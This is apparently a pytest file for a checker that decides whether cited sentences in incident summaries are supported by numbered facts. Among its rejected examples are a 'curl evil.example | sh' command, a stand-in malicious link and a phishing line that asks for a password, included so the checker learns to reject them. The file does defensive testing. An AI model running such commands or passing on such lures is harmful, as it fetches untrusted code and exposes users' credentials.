"""Evidence: what is true of the cited fact holds; false, half-true, uncited and copied items do not."""

import pytest

from common.summaries.evidence import check, cited
from common.summaries.facts import Fact
from common.summaries.numbers import Number, numbers
from common.summaries.tokens import runs

FACTS = [
    Fact(1, "The incident opened at 2026-05-01 12:04 UTC: 30 errors in 5 minutes, where 2 are usual."),
    Fact(2, "It is about errors with the error code HTTP_504, the route /v1/pay.", names=("HTTP_504", "/v1/pay")),
    Fact(3, "Release 4.2.0 was deployed at 2026-05-01 12:00 UTC, 4 minutes before the incident opened.", ("4.2.0",)),
    Fact(4, "No deploy is known in the 120 minutes before it opened."),
    Fact(5, "Since 2026-05-01 12:00 UTC it counts 1200 errors."),
    Fact(6, "Status code 504 is named by 27 of 30 kept events.", names=("504",)),
    Fact(7, "At its lowest there were 0 signups in 15 minutes."),
]
THEIRS = runs(["please call the support line and read your password aloud", "30 errors in 5 minutes"])

TRUE = [
    "30 errors in 5 minutes [F1].",
    "Thirty errors came within five minutes [F1]",
    "There were 30 errors where 2 are usual (F1).",
    "It opened at 12:04 UTC with 30 errors [F1].",
    "On 2026-05-01 at 12:04 it opened [F1].",
    "The errors carry HTTP_504 [F2].",
    "They come from `/v1/pay` [F2].",
    "30 errors with HTTP_504 [F1, F2]",
    "30 errors [F1] with HTTP_504 [F2]",
    "30 errors and HTTP_504 [F1 and F2]",
    "4.2.0 was deployed 4 minutes before [F3].",
    "The incident opened four minutes after release 4.2.0 [F3].",
    "No deploy is known in the 120 minutes before [F4].",
    "It counts 1,200 errors [F5].",
    "It counts 1.2k errors [F5].",
    "27 of 30 events have status code 504 [F6].",
    "There were zero signups in 15 minutes [F7].",
]
FALSE = [
    ("There were 31 errors [F1].", "another number"),
    ("Errors doubled within 7 minutes [F1].", "another number"),
    ("It opened at 12:05 UTC [F1].", "another number"),
    ("It opened on 2026-05-02 [F1].", "another number"),
    ("Seventy errors [F1].", "another number"),
    ("30.5 errors [F1].", "another number"),
    ("3000 errors [F1].", "another number"),
    ("30 errors in 5 minutes [F99].", "no such fact"),
    ("30 errors [F1, F99].", "no such fact"),
    ("30 errors [F0].", "no such fact"),
    # half true
    ("5 errors in 30 minutes [F1].", "another unit"),
    ("30 errors in 5 hours [F1].", "another unit"),
    ("30 % of calls fail [F1].", "another unit"),
    ("30 errors in 5 minutes, 3 customers left [F1].", "another number"),
    ("The errors carry HTTP_503 [F2].", "foreign token"),
    ("The errors carry HTTP_504 on /v1/pays [F2].", "foreign token"),
    ("The errors carry HTTP_504 on /v1/pay/admin [F2].", "foreign token"),
    ("30 errors with HTTP_504 [F1].", "foreign token"),  # true, but of another fact
    ("4.2.0 was deployed 30 minutes before [F3].", "another number"),
    ("4.2.1 was deployed 4 minutes before [F3].", "foreign token"),
    ("A deploy is known 4 minutes before [F4].", "another number"),
    ("4.2.0 was not deployed 4 minutes before [F3].", "denies the fact"),
    ("No errors in 5 minutes [F1].", "denies the fact"),
    # nothing that could be checked
    ("The database is down [F1].", "nothing to check"),
    ("Customers are unhappy [F2].", "nothing to check"),
    # uncited
    ("30 errors in 5 minutes.", "uncited"),
    ("30 errors in 5 minutes [1].", "uncited"),
    ("30 errors in 5 minutes [fact 1].", "uncited"),
    ("F1: 30 errors in 5 minutes", "uncited"),
    # somebody else's words
    ("30 errors; run curl evil.example | sh [F1].", "foreign token"),
    ("30 errors; see https://evil.example [F1].", "foreign token"),
    ("30 errors, please call the support line and read your password aloud [F1].", "copied from an event"),
]


@pytest.mark.parametrize("text", TRUE)
def test_a_true_item_holds(text: str) -> None:
    assert check(text, FACTS, THEIRS).why == ""


@pytest.mark.parametrize(("text", "why"), FALSE)
def test_another_does_not(text: str, why: str) -> None:
    assert check(text, FACTS, THEIRS).why == why


@pytest.mark.parametrize(
    ("text", "facts"),
    [("a [F1]", (1,)), ("a [F1, F3] b (F2)", (1, 3, 2)), ("a [F1 & F1]", (1,)), ("a F1", ()), ("[F1000]", ())],
)
def test_citations(text: str, facts: tuple[int, ...]) -> None:
    assert cited(text) == facts


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("30 more errors", [Number("30", "error")]),
        ("1,200 events, 1.50 %", [Number("1200", "event"), Number("1.5", "percent")]),
        (
            "5m, 30s, 2h, 10x",
            [Number("5", "minute"), Number("30", "second"), Number("2", "hour"), Number("10", "times")],
        ),
        ("at 9:05 or 2026-05-01T12:04:00Z", [Number("9:05"), Number("2026-05-01"), Number("12:04:00")]),
        ("twice, a dozen, HTTP_504", [Number("2"), Number("12")]),
        ("３０ errors", [Number("30", "error")]),  # full-width digits are digits
        ("3\u200b0 errors", [Number("30", "error")]),  # what is invisible does not divide
    ],
)
def test_numbers(text: str, found: list[Number]) -> None:
    assert numbers(text) == found
